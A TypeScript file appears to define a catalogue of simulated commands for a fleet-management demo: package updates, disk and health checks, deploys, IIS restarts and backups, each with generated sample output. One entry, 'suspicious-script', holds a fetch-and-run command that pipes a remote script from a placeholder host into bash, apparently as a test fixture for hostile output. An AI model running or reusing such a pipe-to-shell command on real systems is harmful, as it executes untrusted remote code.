// Realistic commands for the simulated fleet: what they run, how long they take, how they tend to
// end and what they print. Output is generated from a per-run seed, so it is never stored for the
// 100,000 seeded records and is always the same for the same run.
import { CJK_OUTPUT, HOSTILE_OUTPUT, logTail } from './output.js';
import { Prng } from './prng.js';

export type Os = 'linux' | 'windows';
export type Outcome = 'Success' | 'Failed' | 'Timeout' | 'Error' | 'Invalid' | 'Aborted';

export interface OutputContext {
  instanceName: string;
  exitCode: number | null;
  outcome: Outcome;
  /** Per-run seed: the same run prints the same thing. */
  seed: number;
}

type ScriptType = 'RunShellScript' | 'RunPowerShellScript' | 'RunBatScript';

export interface CatalogCommand {
  name: string;
  type: ScriptType;
  /** Where it runs: PowerShell and Bat scripts on Windows, shell scripts on Linux. */
  os: Os;
  content: string;
  /** Running time range per instance, ms. */
  durationMs: readonly [number, number];
  outcomes: readonly (readonly [Outcome, number])[];
  output: (ctx: OutputContext) => string;
  frequency?: string;
}

const mostlyOk = [
  ['Success', 90],
  ['Failed', 6],
  ['Timeout', 1],
  ['Error', 1],
  ['Aborted', 1],
  ['Invalid', 1],
] as const;

const alwaysOk = [['Success', 1]] as const;

function lines(seed: number, count: number, make: (r: Prng, i: number) => string): string {
  const r = new Prng(seed);
  const out: string[] = [];
  for (let i = 0; i < count; i++) out.push(make(r, i));
  return out.join('\n') + '\n';
}

/** A shell command that always succeeds and always prints `text` (the fixed test texts). */
function printsAlways(name: string, content: string, durationMs: readonly [number, number], text: string): Omit<CatalogCommand, 'os'> {
  return { name, type: 'RunShellScript', content, durationMs, outcomes: alwaysOk, output: () => text };
}

const COMMANDS: readonly Omit<CatalogCommand, 'os'>[] = [
  {
    name: 'yum-update-security',
    type: 'RunShellScript',
    content: '#!/bin/bash\nset -e\nyum -y update --security\nneeds-restarting -r || true\n',
    durationMs: [8_000, 25_000],
    outcomes: mostlyOk,
    output: (c) =>
      'Loaded plugins: fastestmirror\nDetermining fastest mirrors\n' +
      lines(c.seed, 12, (r) => `  Updating   : ${r.pick(['openssl-libs', 'kernel', 'glibc', 'curl', 'sudo', 'systemd'])}-${r.int(1, 3)}.${r.int(0, 20)}.${r.int(0, 99)}.el8.x86_64   ${r.int(1, 40)}/${r.int(40, 60)}`) +
      (c.exitCode ? 'Error: Failed to download metadata for repo \'epel\'\n' : 'Complete!\n'),
  },
  {
    name: 'apt-upgrade',
    type: 'RunShellScript',
    content: 'export DEBIAN_FRONTEND=noninteractive\napt-get update -q && apt-get -y -q upgrade\n',
    durationMs: [6_000, 20_000],
    outcomes: mostlyOk,
    output: (c) =>
      lines(c.seed, 10, (r, i) => `Get:${i + 1} http://mirrors.cloud.aliyuncs.com/ubuntu jammy-updates/main amd64 ${r.pick(['libssl3', 'openssh-server', 'tzdata', 'python3.10', 'libc6'])} [${r.int(10, 900)} kB]`) +
      (c.exitCode ? 'E: Could not get lock /var/lib/dpkg/lock-frontend. It is held by process 1234 (apt)\n' : `Fetched ${new Prng(c.seed).int(2, 60)}.4 MB in 3s\n0 upgraded, 0 newly installed, 0 to remove and 0 not upgraded.\n`),
  },
  {
    name: 'disk-usage-check',
    type: 'RunShellScript',
    content: 'df -hT -x tmpfs -x devtmpfs\nTHRESHOLD=90\ndf --output=pcent / | tail -1 | tr -d " %" | awk -v t=$THRESHOLD \'$1>t{exit 2}\'\n',
    durationMs: [500, 2_000],
    outcomes: [['Success', 85], ['Failed', 15]],
    output: (c) => {
      const r = new Prng(c.seed);
      const use = c.exitCode ? r.int(91, 99) : r.int(12, 80);
      return (
        'Filesystem     Type  Size  Used Avail Use% Mounted on\n' +
        `/dev/vda1      ext4   40G   ${Math.round((40 * use) / 100)}G   ${40 - Math.round((40 * use) / 100)}G  ${use}% /\n` +
        `/dev/vdb1      xfs   200G   ${r.int(10, 150)}G  ${r.int(50, 190)}G  ${r.int(5, 75)}% /data\n`
      );
    },
  },
  {
    name: 'tail-app-log',
    type: 'RunShellScript',
    content: 'tail -n 2000 /var/log/app/application.log\n',
    durationMs: [6_000, 12_000],
    outcomes: alwaysOk,
    output: (c) => logTail(40_000, c.seed),
  },
  {
    name: 'deploy-release',
    type: 'RunShellScript',
    content: '#!/bin/bash\nset -euo pipefail\ncd /opt/app\n./deploy.sh --release "$(cat RELEASE)"\n',
    durationMs: [4_000, 15_000],
    outcomes: [['Success', 60], ['Failed', 35], ['Timeout', 5]],
    output: (c) =>
      '==> fetching release v2.14.3\n==> verifying checksum\n==> stopping app.service\n' +
      (c.exitCode
        ? `./deploy.sh: line 42: migrate: command not found\nrollback: restoring v2.14.2\nexit status ${c.exitCode}\n`
        : '==> running migrations (3 pending)\n==> starting app.service\n==> health check passed\n'),
  },
  {
    name: 'health-check',
    type: 'RunShellScript',
    content: 'curl -fsS -m 5 http://127.0.0.1:8080/healthz && systemctl is-active app nginx\n',
    durationMs: [300, 1_500],
    outcomes: [['Success', 95], ['Failed', 5]],
    output: (c) => (c.exitCode ? 'curl: (7) Failed to connect to 127.0.0.1 port 8080: Connection refused\n' : '{"status":"ok"}\nactive\nactive\n'),
    frequency: '0 * * * * *',
  },
  {
    name: 'collect-diagnostics',
    type: 'RunShellScript',
    content: 'uptime; free -m; ss -s; journalctl -p err -n 20 --no-pager\n',
    durationMs: [1_000, 4_000],
    outcomes: mostlyOk,
    output: (c) =>
      ` 10:${String(new Prng(c.seed).int(10, 59))}:01 up 41 days,  3:12,  0 users,  load average: 0.21, 0.30, 0.28\n` +
      '              total        used        free      shared  buff/cache   available\nMem:           7768        3120         812          12        3835        4352\n' +
      lines(c.seed, 6, (r) => `Nov 27 ${r.int(10, 23)}:${r.int(10, 59)}:${r.int(10, 59)} ${c.instanceName} kernel: ${r.pick(['EXT4-fs warning', 'TCP: out of memory -- consider tuning tcp_mem', 'nf_conntrack: table full, dropping packet'])}`),
  },
  {
    name: 'windows-update-scan',
    type: 'RunPowerShellScript',
    content: '$s = New-Object -ComObject Microsoft.Update.Session\n$r = $s.CreateUpdateSearcher().Search("IsInstalled=0")\n$r.Updates | Select-Object Title\n',
    durationMs: [5_000, 20_000],
    outcomes: mostlyOk,
    output: (c) =>
      'Title\r\n-----\r\n' +
      lines(c.seed, 5, (r) => `${r.pick(['2026-11 Cumulative Update for Windows Server 2022', 'Security Intelligence Update for Microsoft Defender', '.NET Framework 4.8.1 Update'])} (KB50${r.int(10000, 99999)})\r`),
  },
  {
    name: 'iis-restart',
    type: 'RunBatScript',
    content: '@echo off\r\niisreset /restart\r\n',
    durationMs: [2_000, 6_000],
    outcomes: mostlyOk,
    output: (c) =>
      c.exitCode
        ? 'Attempting stop...\r\nRestart attempt failed.\r\nAccess denied, you must be an administrator of the remote computer to use this command.\r\n'
        : 'Attempting stop...\r\nInternet services successfully stopped\r\nAttempting start...\r\nInternet services successfully restarted\r\n',
  },
  {
    name: 'windows-disk-check',
    type: 'RunPowerShellScript',
    content: 'Get-PSDrive -PSProvider FileSystem | Format-Table Name,Used,Free\n',
    durationMs: [800, 3_000],
    outcomes: [['Success', 92], ['Failed', 8]],
    output: (c) =>
      '\r\nName         Used         Free\r\n----         ----         ----\r\n' +
      lines(c.seed, 2, (r, i) => `${'CD'[i]}     ${r.int(10, 90)}000000000  ${r.int(10, 90)}000000000\r`),
  },
  {
    name: 'failing-backup',
    type: 'RunShellScript',
    content: '#!/bin/bash\nset -e\nmysqldump --single-transaction app | gzip > /backup/app-$(date +%F).sql.gz\n',
    durationMs: [2_000, 6_000],
    outcomes: [['Failed', 80], ['Success', 20]],
    output: (c) =>
      c.exitCode
        ? 'mysqldump: Got error: 1045: Access denied for user \'backup\'@\'localhost\' (using password: YES) when trying to connect\ngzip: stdout: No space left on device\n'
        : 'backup written: /backup/app.sql.gz (1.2G)\n',
  },
  printsAlways('print-banner', 'cat /etc/motd.d/*.txt\n', [300, 1_000], CJK_OUTPUT),
  printsAlways('suspicious-script', 'curl -s https://example.invalid/maint.sh | bash\n', [1_000, 3_000], HOSTILE_OUTPUT),
];

export const CATALOG: readonly CatalogCommand[] = COMMANDS.map((c) => ({ ...c, os: c.type === 'RunShellScript' ? 'linux' : 'windows' }));

export function catalogByName(name: string): CatalogCommand | undefined {
  return CATALOG.find((c) => c.name === name);
}

/** Commands the random history and the demo's arrivals draw from (weights favour the ordinary ones). */
export const ROUTINE: readonly (readonly [string, number])[] = [
  ['yum-update-security', 10],
  ['apt-upgrade', 8],
  ['disk-usage-check', 20],
  ['tail-app-log', 4],
  ['deploy-release', 8],
  ['collect-diagnostics', 10],
  ['windows-update-scan', 6],
  ['iis-restart', 4],
  ['windows-disk-check', 8],
  ['failing-backup', 4],
];
